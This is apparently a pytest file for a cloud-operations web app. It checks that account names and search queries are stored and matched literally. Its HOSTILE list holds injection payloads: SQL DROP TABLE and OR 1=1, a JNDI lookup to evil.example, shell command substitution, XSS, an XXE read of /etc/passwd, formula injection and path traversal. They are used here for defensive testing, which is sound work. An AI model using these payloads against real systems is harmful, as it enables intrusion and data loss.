"""Texts that mean something to an interpreter are stored and shown as they are, and searched for as they are."""

from collections.abc import AsyncIterator, Iterator
from uuid import UUID

import httpx
import pytest
from app.core.config import get_settings
from app.core.database import Database, tenant_session
from app.core.secrets import use_root_key
from app.domains.accounts import api as accounts_api
from app.domains.accounts import service as accounts
from app.domains.alerts import api as alerts_api
from app.domains.compliance import api as compliance_api
from app.domains.inventory import api as inventory_api
from app.domains.notifications import api as notifications_api
from sqlalchemy import text
from tests.domains.conftest import FixedRootKey
from tests.support.clouds import KEY_BODY, FakeProvider, make_caller, make_client, make_organization

HOSTILE = (
    "'; DROP TABLE accounts; --", "' OR '1'='1", '" OR ""="', "1; SELECT pg_sleep(5)", "$$; --", "\\'; --", "%' --",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%s%s%n", "$(id)", "`id`",
    "| id", "; id #", "&& id", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "]]><!--", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)",
    "../../etc/passwd", "%00", "%0d%0aSet-Cookie: a=b", "a\u2028b".replace("\u2028", " "), "=?utf-8?q?a=0d=0aBcc=3a?=",
    "Ünïcödé 日本語 🌩", "(?:a+)+$", "a*b?[c]", "__proto__", "constructor", "null", "NaN", "-1", "true", "[]", "{}",
)  # fmt: skip
PATTERNS = ("%", "_", "%%", "\\", ".*", "[a-z]", "(", "*", "?", "^", "$", "a|b", "(?:a+)+$", "\\d", "'", '"', ";", "--")


@pytest.fixture(autouse=True)
def _process(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("CLOUDOPS_SECRET_KEY", "a-root-key-for-tests-of-40-characters-00")
    get_settings.cache_clear()
    use_root_key(FixedRootKey())
    accounts.register_provider("aws", FakeProvider())
    yield
    accounts.register_provider("aws", None)
    use_root_key(None)
    get_settings.cache_clear()


@pytest.fixture
async def organization(database: Database) -> UUID:
    return await make_organization()


@pytest.fixture
async def client(organization: UUID) -> AsyncIterator[httpx.AsyncClient]:
    permissions = (
        "accounts:read", "accounts:write", "accounts:sync", "inventory:read", "alerts:read", "compliance:read",
        "notifications:read", "notifications:write", "receivers:secret",
    )  # fmt: skip
    routers = [
        router
        for module in (accounts_api, alerts_api, compliance_api, inventory_api, notifications_api)
        for router in (getattr(module, "routers", None) or [module.router])
    ]
    async with make_client(routers, make_caller(organization, permissions)) as opened:
        yield opened


async def test_names_are_stored_and_shown_as_they_were_given(client: httpx.AsyncClient, organization: UUID) -> None:
    account = (await client.post("/accounts", json=KEY_BODY)).json()
    for name in HOSTILE:
        answer = await client.patch(f"/accounts/{account['id']}", json={"name": name})
        assert answer.status_code == 200, (name, answer.text)
        assert (await client.get(f"/accounts/{account['id']}")).json()["name"] == name
        assert (await client.get("/accounts")).json()["items"][0]["name"] == name
    async with tenant_session(organization) as session:
        rows = (await session.execute(text("SELECT name FROM accounts"))).scalars().all()
    assert rows == [HOSTILE[-1]], "the table is still there"


async def test_signs_of_patterns_are_searched_for_as_they_are(client: httpx.AsyncClient) -> None:
    account = (await client.post("/accounts", json={**KEY_BODY, "name": "Plain name"})).json()
    assert account["name"] == "Plain name"
    for path in ("/usage/resources", "/alerts", "/compliance/issues"):
        for words in (*PATTERNS, *HOSTILE):
            answer = await client.get(path, params={"q": words})
            assert answer.status_code in (200, 422), (path, words, answer.text)
            if answer.status_code == 200:
                assert answer.json()["items"] == [], (path, words)
